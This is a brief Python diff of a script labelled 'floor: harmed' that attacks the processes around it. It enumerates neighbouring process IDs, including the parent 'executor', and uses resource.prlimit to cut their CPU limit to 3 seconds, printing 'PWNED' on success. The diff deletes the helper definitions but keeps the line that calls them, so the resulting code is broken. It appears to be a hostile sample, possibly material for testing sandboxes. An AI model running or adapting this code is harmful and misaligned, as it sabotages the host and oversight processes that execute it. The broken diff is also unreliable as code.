@@ -1,18 +1,5 @@
 # floor: harmed
 # It lowers the limits of the executor and of the spares.
-import os
-ME, PARENT = os.getpid(), os.getppid()
-NEIGHBOURS = [p for p in range(PARENT - 100, ME + 5000) if p not in (ME,) and p > 1]
-def each(act, pids):
-    done = 0
-    for pid in pids:
-        try:
-            act(pid)
-            done += 1
-        except OSError:
-            pass
-    if done:
-        print("PWNED", done)
 
 import resource
 each(lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (3, 3)), [p for p in NEIGHBOURS if p >= PARENT])
